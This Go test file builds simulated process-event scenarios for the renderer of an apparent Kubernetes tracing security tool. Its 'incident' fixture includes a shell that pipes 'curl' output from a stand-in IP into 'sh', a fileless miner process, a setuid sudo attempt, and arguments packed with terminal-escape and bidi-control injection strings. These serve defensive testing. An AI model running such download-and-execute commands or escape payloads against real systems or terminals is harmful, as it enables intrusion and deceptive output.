// SPDX-License-Identifier: Apache-2.0

package render

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/kubectl-trace-sec/kubectl-trace-sec/pkg/event"
	"github.com/kubectl-trace-sec/kubectl-trace-sec/pkg/plugin/pipeline"
	"github.com/kubectl-trace-sec/kubectl-trace-sec/pkg/plugin/processes"
)

// story makes events of processes as a tracer and the join would.
type story struct {
	now  time.Time
	pid  uint32
	show func(*event.Event)
	last *actor // see top
}

func newStory(t testing.TB, r pipeline.Sink) *story {
	item := observed()
	return &story{now: time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC), pid: 1000, show: func(e *event.Event) {
		if err := errors.Join(r.Take(item(settled(e))), r.Flush(time.Now())); err != nil {
			t.Fatal(err)
		}
	}}
}

// settled is an event whose process does not change any more, as the story goes on.
func settled(e *event.Event) *event.Event {
	e = e.Clone()
	s, ok := e.Subjects()
	if !ok {
		return e
	}
	own := func(p *event.Process) *event.Process {
		if p != nil {
			process := *p
			p = &process
		}
		return p
	}
	*s.Process, *s.Parent = own(*s.Process), own(*s.Parent)
	*s.Ancestors = slices.Clone(*s.Ancestors)
	for i, ancestor := range *s.Ancestors {
		(*s.Ancestors)[i] = own(ancestor)
	}
	return e
}

// fed is a sink that is fed as the pipeline does it: flushed every 50 ms too. It is for a synctest bubble.
type fed struct {
	sink pipeline.Sink
	mu   sync.Mutex
	done chan struct{}
}

func feed(sink pipeline.Sink) *fed {
	f := &fed{sink: sink, done: make(chan struct{})}
	go func() {
		tick := time.NewTicker(50 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case now := <-tick.C:
				_ = f.Flush(now)
			case <-f.done:
				return
			}
		}
	}()
	return f
}

// written is what was written since the last call. out is a buffer that only f's sink writes to.
func (f *fed) written(out *bytes.Buffer) string {
	synctest.Wait()
	f.mu.Lock()
	defer f.mu.Unlock()
	defer out.Reset()
	return out.String()
}

func (f *fed) Take(it *pipeline.Item) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.sink.Take(it)
}

func (f *fed) Flush(now time.Time) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.sink.Flush(now)
}

func (f *fed) Close() error {
	close(f.done)
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.sink.Close()
}

// observed makes items of events, one after the other, as a session does.
func observed() func(*event.Event) *pipeline.Item {
	tables, budget := map[string]*processes.Table{}, processes.NewBudget(processes.SessionBytes)
	return func(e *event.Event) *pipeline.Item {
		if tables[e.NodeName] == nil {
			tables[e.NodeName] = processes.NewTable(e.NodeName, budget)
		}
		return &pipeline.Item{Event: e, Process: tables[e.NodeName].Observe(e)}
	}
}

// actor is a process of a story.
type actor struct {
	*event.Process
	parent *actor
	node   string
}

func pod(namespace, name, container string) *event.Pod {
	return &event.Pod{Namespace: namespace, Name: name, UID: "uid-" + name, Container: &event.Container{Name: container}}
}

func (s *story) wait(d time.Duration) { s.now = s.now.Add(d) }

func (s *story) time() *event.Timestamp { return &event.Timestamp{Time: s.now} }

// process is one that tells nothing of itself yet.
func (s *story) process(node string, p *event.Pod, parent *actor, binary, arguments string) *actor {
	s.pid++
	pid, uid, initTree := s.pid, uint32(0), true
	a := &actor{&event.Process{
		Pid: &pid, Uid: &uid, Cwd: "/", Binary: binary, Arguments: arguments, Flags: "execve rootcwd clone", StartTime: s.time(),
		Pod: p, InInitTree: &initTree, ExecID: execID(node, s.now, pid),
	}, parent, node}
	if p != nil {
		a.Docker = (fmt.Sprintf("%x", p.Name+p.Container.Name) + strings.Repeat("0", event.DockerLength))[:event.DockerLength]
	}
	if parent != nil {
		a.ParentExecID = parent.ExecID
	}
	return a
}

func execID(node string, at time.Time, pid uint32) string {
	return base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "%s:%d:%d", node, at.UnixNano(), pid))
}

// child starts a process in the pod of its parent.
func (s *story) child(parent *actor, binary, arguments string) *actor {
	return s.start(s.process(parent.node, parent.Pod, parent, binary, arguments))
}

func (s *story) start(a *actor, change ...func(*event.Event)) *actor {
	parent, ancestors := a.relatives()
	e := &event.Event{NodeName: a.node, Time: s.time(), ProcessExec: &event.ProcessExec{Process: a.Process, Parent: parent, Ancestors: ancestors}}
	for _, c := range change {
		c(e)
	}
	s.show(e)
	return a
}

func (s *story) end(a *actor, code uint32, signal string) {
	parent, ancestors := a.relatives()
	s.show(&event.Event{NodeName: a.node, Time: s.time(), ProcessExit: &event.ProcessExit{
		Process: a.Process, Parent: parent, Ancestors: ancestors, Status: code, Signal: signal, Time: s.time(),
	}})
}

// run starts a process and ends it after a time.
func (s *story) run(parent *actor, binary, arguments string, d time.Duration, code uint32) {
	a := s.child(parent, binary, arguments)
	s.wait(d)
	s.end(a, code, "")
}

// replace has a process run another program.
func (s *story) replace(a *actor, binary, arguments string) *actor {
	p := *a.Process
	p.Binary, p.Arguments, p.Flags = binary, arguments, "execve rootcwd"
	p.ExecID = execID(a.node, s.now, *p.Pid)
	return s.start(&actor{&p, a.parent, a.node})
}

func (a *actor) relatives() (parent *event.Process, ancestors []*event.Process) {
	if a.parent == nil {
		return nil, nil
	}
	for up := a.parent.parent; up != nil; up = up.parent {
		ancestors = append(ancestors, up.Process)
	}
	return a.parent.Process, ancestors
}

// seed is the scenario of seeds/000: kubectl exec runs /sub.sh, which sleeps, runs /subsub.sh, and sleeps.
func (s *story) seed() {
	p := pod("myapp", "process-monitor-98f96db4d-nsc59", "process-monitor")
	shim := s.process("k8s-w2", nil, nil, "/usr/local/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 1f90009cb0f2")
	sub := s.process("k8s-w2", p, shim, "/sub.sh", "/sub.sh")
	*sub.InInitTree = false
	s.start(sub)
	s.wait(2 * time.Millisecond)
	s.run(sub, "/usr/bin/sleep", "5", 5*time.Second, 0)
	s.wait(4 * time.Millisecond)
	subsub := s.child(sub, "/subsub.sh", "/subsub.sh")
	s.wait(4 * time.Millisecond)
	s.run(subsub, "/usr/bin/sleep", "5", 5*time.Second, 0)
	s.end(subsub, 0, "")
	s.wait(time.Millisecond)
	s.run(sub, "/usr/bin/sleep", "5", 5*time.Second, 0)
	s.end(sub, 0, "")
}

// incident has several pods, failures, signals, replaced programs, processes from before, and hostile names.
func (s *story) incident() {
	s.show(&event.Event{NodeName: "k8s-w1", Hello: &event.Hello{Protocol: 1, Build: "v1", Hooks: []event.Hook{{Name: "exec", Backend: "tp_btf"}}}})
	shim := s.process("k8s-w1", nil, nil, "/usr/local/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 2f")
	runc := s.process("k8s-w1", nil, shim, "/usr/local/bin/runc", "exec")
	web, db := pod("shop", "web-7d9f8c5b4-x2x9p", "nginx"), pod("shop", "postgres-0", "postgres")

	entry := s.start(s.process("k8s-w1", web, runc, "/docker-entrypoint.sh", `nginx -g "daemon off;"`))
	s.wait(5 * time.Millisecond)
	s.run(entry, "/usr/bin/find", "/docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit", 2*time.Millisecond, 0)
	tail := s.child(entry, "/usr/bin/tail", "-f /var/log/nginx/access.log")
	script := s.child(entry, "/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh", "")
	s.run(script, "/usr/bin/grep", "-q listen /etc/nginx/conf.d/default.conf", 3*time.Millisecond, 1)
	s.end(script, 0, "")
	s.wait(10 * time.Millisecond)
	nginx := s.replace(entry, "/usr/sbin/nginx", `-g "daemon off;"`)

	postgres := s.process("k8s-w1", db, shim, "/usr/local/bin/postgres", "-D /var/lib/postgresql/data") // was there before
	user := uint32(999)
	postgres.Uid = &user
	shell := s.process("k8s-w1", db, postgres, "/bin/sh", `-c "curl -fsSL http://198.51.100.7/x.sh | sh"`)
	shell.Uid = &user
	s.start(shell)
	curl, second := s.child(shell, "/usr/bin/curl", "-fsSL http://198.51.100.7/x.sh"), s.process("k8s-w1", db, shell, "/bin/sh", "")
	s.start(second)
	s.wait(300 * time.Millisecond)
	s.end(curl, 0, "")
	miner := s.start(s.process("k8s-w1", db, second, "/proc/self/fd/3", "--user 日本語\u202e🚀 --pass \x1b]0;pwned\a\x1b[2J\u009b31m\n\xff "+strings.Repeat("x", 400)),
		func(e *event.Event) { e.Executable = "/memfd:kworker/0:1 (deleted)" })
	sudo := s.process("k8s-w1", db, second, "/usr/bin/sudo", "-n id")
	sudo.BinaryProperties = &event.BinaryProperties{PrivilegesChanged: []string{"PRIVILEGES_RAISED_EXEC_FILE_SETUID"}}
	second.Uid = &user
	s.start(sudo)
	s.wait(20 * time.Millisecond)
	s.end(sudo, 1, "")
	s.show(&event.Event{NodeName: "k8s-w1", Time: s.time(), Loss: &event.Loss{Cause: event.LostRing, Count: 412, Total: 1034}})
	fuller := event.Throttled{Pod: &event.Pod{Namespace: "shop", Name: "db-0", UID: "2"}}
	s.show(&event.Event{NodeName: "k8s-w1", Time: s.time(), ProcessThrottle: &event.ProcessThrottle{Type: event.ThrottleStart, Cgroup: "pod2"}, Throttled: &fuller})
	emptied := fuller
	emptied.Count, emptied.Total = 1203, 2406
	s.show(&event.Event{NodeName: "k8s-w1", Time: s.time(), ProcessThrottle: &event.ProcessThrottle{Type: event.ThrottleStop, Cgroup: "pod2"}, Throttled: &emptied})
	s.show(&event.Event{NodeName: "k8s-w2", Time: s.time(), Notice: &event.Notice{Level: event.LevelWarning, Subject: "pod a/b", Text: "its cgroup was not found"}})
	s.end(tail, 0, "SIGTERM") // of another pod than the lines around it
	s.end(miner, 0, "SIGKILL")

	for range 7 {
		probe := s.process("k8s-w1", web, runc, "/bin/sh", `-c "curl -s localhost/healthz"`)
		*probe.InInitTree = false
		s.start(probe)
		s.wait(3 * time.Millisecond)
		s.run(probe, "/usr/bin/curl", "-s localhost/healthz", 9*time.Millisecond, 0)
		s.end(probe, 0, "")
		s.wait(time.Second)
	}
	worker := s.process("k8s-w1", web, nginx, "/usr/sbin/nginx", "worker: not executed") // a fork: only its exit is told
	s.end(worker, 0, "SIGSEGV")
	s.start(s.process("k8s-w1", nil, nil, "/usr/bin/a program", "on the node"))

	make := s.start(s.process("k8s-w1", web, nginx, "/usr/bin/make", "-j2"))
	a, b := s.child(make, "/usr/bin/gcc", "-c a.c"), s.child(make, "/usr/bin/gcc", "-c b.c")
	a1, b1 := s.child(a, "/usr/libexec/cc1", "a.c"), s.child(b, "/usr/libexec/cc1", "b.c")
	s.wait(70 * time.Millisecond)
	s.end(b1, 0, "SIGVTALRM")
	s.end(b, 4, "")
	s.end(a1, 0, "")
	s.end(a, 0, "")
	s.end(make, 2, "")
	s.show(&event.Event{NodeName: "k8s-w1", Time: s.time()})
	s.show(&event.Event{NodeName: "k8s-w1", Time: s.time(), Bye: &event.Bye{Reason: event.ByeStopped}})
}
